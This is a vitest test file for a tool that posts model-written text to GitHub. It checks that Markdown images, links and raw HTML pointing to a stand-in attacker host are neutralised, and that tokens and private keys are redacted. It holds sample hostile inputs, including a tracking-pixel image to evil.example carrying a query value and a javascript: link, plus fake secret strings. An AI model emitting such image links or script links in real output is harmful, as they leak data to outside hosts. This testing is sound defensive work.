import { describe, expect, it } from "vitest";
import { quoteModelText } from "../../src/core/report/format.ts";
import { neutralizeOutbound, plainTitle } from "../../src/core/text/outbound.ts";
import { REDACTED, redactSecrets } from "../../src/core/text/redact.ts";

const policy = { allowedHosts: ["github.com"] };
const out = (text: string): string => neutralizeOutbound(text, policy);

describe("nothing hidden goes out: posted Markdown", () => {
  it.each([
    [
      "an image on another host (a tracking pixel)",
      "done ![status](https://evil.example/p.png?k=abc)",
      "done status (image not shown: `https://evil.example/p.png?k=abc`)",
    ],
    [
      "a link to another host",
      "see [the docs](https://evil.example/login)",
      "see the docs (`https://evil.example/login`)",
    ],
    [
      "a bare address on another host",
      "go to https://evil.example/x now",
      "go to `https://evil.example/x` now",
    ],
    ["a javascript: link", "[x](javascript:alert(1))", "x (`javascript:alert(1`))"],
    [
      "a reference definition to another host",
      "[a]: https://evil.example",
      "`[a]: https://evil.example`",
    ],
    [
      "raw HTML and comments",
      "a <!-- hide the rest --> b <img src=x> <details>",
      "a &lt;!-- hide the rest --> b &lt;img src=x> &lt;details>",
    ],
    [
      "HTML that is not exactly our disclosure lines",
      "<details open>\n<details >\n<summary><img src=x></summary>\n<summary>a</summary> <b>\n <details>\n<!-- <details> -->",
      "&lt;details open>\n&lt;details >\n&lt;summary>&lt;img src=x>&lt;/summary>\n&lt;summary>a&lt;/summary> &lt;b>\n &lt;details>\n&lt;!-- &lt;details> -->",
    ],
    ["a mention", "thanks @octocat and @org/team", "thanks `@octocat` and `@org/team`"],
    ["bidi and invisible characters", "a\u202eb\u200bc", "abc"],
  ])("neutralises %s", (_, text, expected) => {
    expect(out(text)).toBe(expected);
  });

  it("keeps links and images to allowed hosts, relative links, e-mail-like text and code", () => {
    const text = [
      "[PR](https://github.com/o/r/pull/1) ![x](https://github.com/o/r/raw/main/a.png) [rel](/o/r)",
      "mail me at a@b.c",
      "`<b>https://evil.example @x</b>`",
      "```\n<!-- kept --> https://evil.example @y\n```",
    ].join("\n");
    expect(out(text)).toBe(text);
  });

  it("keeps our disclosure lines, with the Markdown inside still neutralised", () => {
    const text = "<details>\n<summary>Cost: $0.12</summary>\n\n<img src=x> @u\n\n</details>";
    expect(out(text)).toBe(
      "<details>\n<summary>Cost: $0.12</summary>\n\n&lt;img src=x> `@u`\n\n</details>",
    );
  });

  it("is idempotent", () => {
    const text = "x ![a](https://e.vil/p) [b](https://e.vil) https://e.vil <b> @u";
    expect(out(out(text))).toBe(out(text));
  });

  it("titles are one plain line without bidi controls", () => {
    expect(plainTitle("Fix\u202e the\nbug\u2066")).toBe("Fix the bug");
  });

  it("model text cannot open markup: comments escaped, open fences closed", () => {
    expect(quoteModelText("step <!-- hide")).toBe("step &lt;!-- hide");
    expect(quoteModelText("use `Map<K>`")).toBe("use `Map<K>`");
    expect(quoteModelText("a\n```\nunclosed")).toBe("a\n```\nunclosed\n```");
  });
});

describe("the redactor", () => {
  const jwt =
    "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiIxMjM0NSIsImV4cCI6MTcwMDAwMDAwMH0.c2lnbmF0dXJlLXBhcnQtaGVyZQ";
  it.each([
    ["a ghs_<app id>_<JWT> installation token, whole", `ghs_12345_${jwt}`],
    ["a JWT", jwt],
    ["a Basic authorization header", "Authorization: Basic eC1hY2Nlc3MtdG9rZW46Z2hzX3NlY3JldA=="],
    ["a Bearer authorization header", "authorization: Bearer abc.def-ghi_123456789"],
    [
      "a PEM private key",
      "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nabc\n-----END RSA PRIVATE KEY-----",
    ],
    [
      "an OpenSSH private key",
      "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY-----",
    ],
    [
      "a PGP private key block",
      "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQdGBF\n-----END PGP PRIVATE KEY BLOCK-----",
    ],
    [
      "an AWS secret access key",
      "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    ],
    ["an OpenRouter key", `sk-or-v1-${"a1".repeat(32)}`],
    ["a Groq key", `gsk_${"A1".repeat(26)}`],
    ["a Hugging Face token", `hf_${"A1b".repeat(12)}`],
    ["an xAI key", `xai-${"A1".repeat(40)}`],
    ["a Google OAuth token", `ya29.${"a1B_".repeat(10)}`],
    ["an npm token", `npm_${"A1".repeat(18)}`],
    ["a GitLab token", `glpat-${"a1".repeat(10)}`],
    ["an environment assignment", "OPENAI_API_KEY=abc123def456ghi789"],
  ])("redacts %s", (_, secret) => {
    const text = redactSecrets(`before ${secret} after`);
    expect(text).toContain(REDACTED);
    for (const piece of secret.split(/[\s.=:]+/).filter((p) => p.length >= 12 && /\d/.test(p)))
      expect(text, piece).not.toContain(piece);
  });

  it("leaves commit SHAs, ordinary prose and code alone", () => {
    const text =
      "commit 3f786850e387550fdab836ed7e6dc881de23001b; the token parser; const TOKEN = getToken();";
    expect(redactSecrets(text)).toBe(text);
  });
});
